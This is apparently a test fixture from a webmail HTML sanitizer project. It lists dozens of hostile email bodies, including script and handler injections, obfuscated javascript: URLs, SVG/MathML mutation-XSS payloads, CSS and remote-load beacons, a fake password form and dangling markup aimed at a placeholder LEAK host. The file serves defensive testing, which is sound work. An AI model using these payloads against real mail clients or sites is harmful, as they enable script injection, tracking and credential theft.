// Bodies that broke webmails, and spellings that could: one entry for each trick. The unit tests, the fuzzer and
// the Chromium test all read this list. LEAK is replaced by the address of a server that must never be asked.

export interface Hostile {
  name: string;
  html: string;
}

const mail = (name: string, html: string): Hostile => ({ name, html });

export const HOSTILE_HTML: readonly Hostile[] = [
  // Scripts and handlers
  mail('script', '<script>window.ran=1</script><p>text</p>'),
  mail('script in odd case', '<ScRiPt\n>window.ran=1</sCrIpT >'),
  mail('script with slashes', '<script/x>window.ran=1</script>'),
  mail('unclosed script', '<p>before</p><script>window.ran=1'),
  mail('script with a source', '<script src="LEAK/s.js"></script>'),
  mail('nested script pieces', '<scr<script>ipt>window.ran=1</scr</script>ipt>'),
  mail('NUL in a tag name', '<scr\0ipt>window.ran=1</scr\0ipt>'),
  mail(
    'handlers',
    '<img src=x onerror=window.ran=1><body onload=window.ran=1><p onclick=window.ran=1 onmouseover=window.ran=1>x',
  ),
  mail('handler behind a slash', '<img/src=x/onerror=window.ran=1>'),
  mail('handler in quotes', '<img alt="x" title=\'" onerror=window.ran=1 \' src=x>'),
  mail('handler after backticks', '<img alt=``onerror=window.ran=1 src=x>'),
  mail('details and toggle', '<details open ontoggle=window.ran=1><summary>x</summary></details>'),
  mail(
    'animation handlers',
    '<style>@keyframes a{}</style><p style="animation-name:a" onanimationstart=window.ran=1>x',
  ),
  mail('entity handler', '<p on&#99;lick=window.ran=1 &#111;nclick=window.ran=1>x'),
  // javascript: and its spellings
  ...[
    'javascript:window.ran=1',
    'JaVaScRiPt:window.ran=1',
    ' javascript:window.ran=1',
    '\u0001javascript:window.ran=1',
    'java\tscript:window.ran=1',
    'java\nscript:window.ran=1',
    'java&Tab;script:window.ran=1',
    '&#x6A;avascript&colon;window.ran=1',
    '&#0000106avascript:window.ran=1',
    'javascript&NewLine;:window.ran=1',
    'feed:javascript:window.ran=1',
    'view-source:javascript:window.ran=1',
    'vbscript:msgbox(1)',
    'data:text/html,<script>window.ran=1</script>',
    'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
    'blob:https://example.org/x',
    'file:///etc/passwd',
    '\\\\example.org\\share',
    'javascript://example.org/%0awindow.ran=1',
  ].map((target) =>
    mail(`link to ${JSON.stringify(target)}`, `<a href="${target}">link</a><area href="${target}">`),
  ),
  mail(
    'formaction and friends',
    '<form action="javascript:window.ran=1"><button formaction="javascript:window.ran=1">x</button><input type=image src="LEAK/i.png"></form>',
  ),
  // SVG and MathML
  mail('svg handler', '<svg onload=window.ran=1><circle r=9></svg>'),
  mail('svg script', '<svg><script>window.ran=1</script></svg>'),
  mail(
    'svg animation of a link',
    '<svg><a><animate attributeName=href values="javascript:window.ran=1"/><text y=20>x</text></a></svg>',
  ),
  mail('svg set with begin', '<svg><set attributeName=onmouseover to=window.ran=1 begin=0s></svg>'),
  mail(
    'svg feImage',
    '<svg><filter id=f><feImage href="LEAK/f.png"/></filter><rect filter="url(#f)"/></svg>',
  ),
  mail('svg use', '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>'),
  mail(
    'svg foreignObject',
    '<svg><foreignObject><body onload=window.ran=1><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>',
  ),
  mail(
    'svg image in an img',
    '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icmFuPTEiLz4=">',
  ),
  mail('svg style breaks out', '<svg></p><style><a title="</style><img src=x onerror=window.ran=1>">'),
  mail('svg renamed', '<svg><title><style><!--</style><img src=x onerror=window.ran=1>--></title></svg>'),
  mail(
    'math link',
    '<math href="javascript:window.ran=1">x</math><math><mtext><a href="javascript:window.ran=1">x</a></mtext></math>',
  ),
  mail(
    'math annotation',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=window.ran=1></style></annotation-xml></math>',
  ),
  // mXSS classics
  mail(
    'form and math mutation',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1></style></mglyph></form>',
  ),
  mail(
    'math table mutation',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  ),
  mail('noscript mutation', '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">'),
  mail('noembed mutation', '<noembed><p title="</noembed><img src=x onerror=window.ran=1>">'),
  mail('noframes mutation', '<noframes><p title="</noframes><img src=x onerror=window.ran=1>">'),
  mail(
    'template',
    '<template><img src=x onerror=window.ran=1></template><template><script>window.ran=1</script>',
  ),
  mail('textarea mutation', '<textarea><p title="</textarea><img src=x onerror=window.ran=1>">'),
  mail('title mutation', '<title><p title="</title><img src=x onerror=window.ran=1>">'),
  mail('xmp mutation', '<xmp><p title="</xmp><img src=x onerror=window.ran=1>">'),
  mail('iframe mutation', '<iframe><p title="</iframe><img src=x onerror=window.ran=1>">'),
  mail('style mutation', '<style><p title="</style><img src=x onerror=window.ran=1>">'),
  mail('style that ends in a string', '<style>a{content:"</style><img src=x onerror=window.ran=1>"}</style>'),
  mail('style that never ends', '<style>p{color:red}<img src=x onerror=window.ran=1>'),
  mail('plaintext', '<plaintext><img src=x onerror=window.ran=1>'),
  mail(
    'comment ends',
    '<!--><img src=x onerror=window.ran=1>--><!--->x--!><img src=x onerror=window.ran=1><!-- --!><img src=x onerror=window.ran=1>',
  ),
  mail(
    'conditional comment',
    '<!--[if gte IE 4]><script>window.ran=1</script><![endif]--><![if !mso]><p>shown</p><![endif]>',
  ),
  mail(
    'CDATA',
    '<![CDATA[<img src=x onerror=window.ran=1>]]><svg><![CDATA[><img src=x onerror=window.ran=1>]]></svg>',
  ),
  mail('processing instruction', '<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=window.ran=1>'),
  mail(
    'select and option',
    '<select><option><style></option></select><img src=x onerror=window.ran=1></style>',
  ),
  mail(
    'nested anchors and tables',
    '<a href="https://example.org/1"><table><a href="https://example.org/2"><tr><td><a>x</table>',
  ),
  mail('attribute without an end', '<a href="https://example.org/" title="<img src=x onerror=window.ran=1>'),
  mail('less-than without an end', '<p>1 < 2 <'),
  mail('wrong surrogates and NUL', '<p title="\ud800\0">\udc00\0 text</p>'),
  // Things that load
  mail(
    'remote images',
    '<img src="LEAK/1.png"><img src="//example.invalid/2.png"><img srcset="LEAK/3.png 2x"><picture><source srcset="LEAK/4.png"><img src="LEAK/5.png" alt="Five" width=300 height=100></picture>',
  ),
  mail(
    'image with newlines in its URL',
    '<img src="ht\ntps://example.invalid/x.png"><img src="LEAK\t/6.png">',
  ),
  mail(
    'input image, video, audio',
    '<input type=image src="LEAK/7.png"><video src="LEAK/8.mp4" poster="LEAK/9.png" autoplay></video><audio src="LEAK/a.mp3" autoplay></audio>',
  ),
  mail(
    'links that load',
    '<link rel=stylesheet href="LEAK/b.css"><link rel=prefetch href="LEAK/c"><link rel=dns-prefetch href="LEAK"><link rel=icon href="LEAK/d.ico">',
  ),
  mail(
    'frames and objects',
    '<iframe src="LEAK/e"></iframe><object data="LEAK/f"></object><embed src="LEAK/g"><applet code="LEAK/h"></applet><frameset><frame src="LEAK/i"></frameset>',
  ),
  mail('srcdoc', '<iframe srcdoc="<script>parent.ran=1</script><img src=LEAK/j>"></iframe>'),
  mail(
    'base and meta',
    '<base href="LEAK/"><meta http-equiv=refresh content="0;url=LEAK/k"><meta http-equiv="Content-Security-Policy" content="default-src *"><img src="l.png">',
  ),
  mail(
    'backgrounds',
    '<body background="LEAK/m.png"><table background="LEAK/n.png"><tr><td background="LEAK/o.png">x</table>',
  ),
  mail('import', '<style>@import "LEAK/p.css"; @import url(LEAK/q.css) screen; p{color:green}</style><p>x'),
  mail('font-face', '<style>@font-face{font-family:x;src:url(LEAK/r.woff)} p{font-family:x}</style><p>x'),
  mail(
    'style URLs',
    '<style>p{background:url(LEAK/s.png);list-style:url("LEAK/t.png");cursor:url(LEAK/u.cur),auto;content:url(LEAK/v)} p::before{content:url(LEAK/w)}</style><p style="background-image:url(&quot;LEAK/x.png&quot;)">x',
  ),
  mail(
    'image-set and friends',
    "<p style=\"background-image:image-set('LEAK/y.png' 1x);background-image:-webkit-image-set(url(LEAK/z.png) 1x);mask-image:url(LEAK/a1);border-image:url(LEAK/a2) 1;filter:url(LEAK/a3);shape-outside:url(LEAK/a4);background:src('LEAK/a5')\">x",
  ),
  mail('unclosed url', '<p style="background:url(LEAK/b1.png">x<style>p{background:url(LEAK/b2.png</style>'),
  mail(
    'var with a URL',
    '<style>:root{--a:url(LEAK/c1.png)} p{background:var(--a)}</style><p style="--b:url(LEAK/c2.png);background:var(--b)">x',
  ),
  mail(
    'CSS escapes',
    '<style>p{background:\\75\\72\\6c(LEAK/d1.png);b\\61ckground:url(LEAK/d2.png)} @\\69mport url(LEAK/d3.css);</style><p style="background:\\75 rl(LEAK/d4.png)">x',
  ),
  mail(
    'CSS comments',
    '<p style="back/**/ground:url(LEAK/e1.png);background:u/**/rl(LEAK/e2.png);background:url/**/(LEAK/e3.png)">x',
  ),
  mail(
    'CSS expression and binding',
    '<p style="width:expression(window.ran=1);-moz-binding:url(LEAK/f1.xml#x);behavior:url(LEAK/f2.htc)">x',
  ),
  mail(
    'CSS ends the element',
    '<p style="color:red&lt;/style>&lt;script>window.ran=1&lt;/script>">x<style>a[title="</style><script>window.ran=1</script>"]{}</style>',
  ),
  mail(
    'CSS in CDO and media',
    '<!-- x --><style><!-- @media screen { p { color: red; background: url(LEAK/g1.png) } } --></style><style media="screen and (x:url(LEAK/g2))">p{color:blue}</style><p>x',
  ),
  mail(
    'CSS layer, namespace, supports',
    '<style>@namespace url(LEAK/h1);@layer a{p{background:url(LEAK/h2)}}@supports(background:url(LEAK/h3)){p{background:url(LEAK/h4)}}@container x{p{background:url(LEAK/h5)}}p{q{background:url(LEAK/h6)}}</style><p>x',
  ),
  mail(
    'attribute selectors that leak',
    '<style>a[href^="https"]{background:url(LEAK/i1)}</style><a href="https://example.org/">x</a>',
  ),
  mail(
    'ping and target',
    '<a href="https://example.org/" ping="LEAK/j1" target=_top download referrerpolicy=unsafe-url>x</a>',
  ),
  mail(
    'xlink and href on others',
    '<p href="javascript:window.ran=1" src="LEAK/k1" xlink:href="LEAK/k2">x</p><image src="LEAK/k3" xlink:href="LEAK/k4">',
  ),
  mail(
    'lowsrc, dynsrc, longdesc, usemap',
    '<img src="LEAK/l1" lowsrc="LEAK/l2" dynsrc="LEAK/l3" longdesc="LEAK/l4" usemap="#m"><map name=m><area href="javascript:window.ran=1"></map>',
  ),
  mail(
    'bgsound, layer, xml',
    '<bgsound src="LEAK/m1"><layer src="LEAK/m2"></layer><xml src="LEAK/m3"></xml><import src="LEAK/m4"></import>',
  ),
  // Clobbering, overlays, forms
  mail(
    'clobbering',
    '<a id=ran name=ran></a><form name=document><input name=cookie></form><img name=getElementById><p id=__proto__>x',
  ),
  mail('overlay', '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in</div>'),
  mail(
    'password form',
    '<form action="LEAK/n1" method=post><input type=password name=p autofocus><button>Sign in</button></form>',
  ),
  mail(
    'contenteditable, popover, slots',
    '<p contenteditable popover tabindex=1 accesskey=x slot=s is=x part=p draggable=true>x</p><dialog open>d</dialog>',
  ),
  mail('dangling markup', "<img src='LEAK/o1?<p>secret</p>"),
];

/** Bodies that must still look right. */
export const NEWSLETTER = `<html><head><style>.b{padding:12px 24px;background:#06c;color:#fff;text-decoration:none}@media (max-width:600px){.w{width:100%!important}}</style></head>
<body bgcolor="#f4f4f4" style="margin:0"><table width="600" cellpadding="0" cellspacing="0" align="center" class="w" style="min-width:600px;background:#fff"><tr><td width="600" style="padding:24px;width:600px"><h1>News of the week</h1><img src="LEAK/hero.png" width="552" height="200" alt="A harbour at dawn"><p style="width:552px">Some words in a fixed box, and a very long address: https://example.org/${'a'.repeat(120)}</p><table width="552"><tr><td width="276">Left column</td><td width="276">Right column</td></tr></table><a class="b" href="https://example.org/read">Read on</a><pre>${'code '.repeat(60)}</pre></td></tr></table></body></html>`;
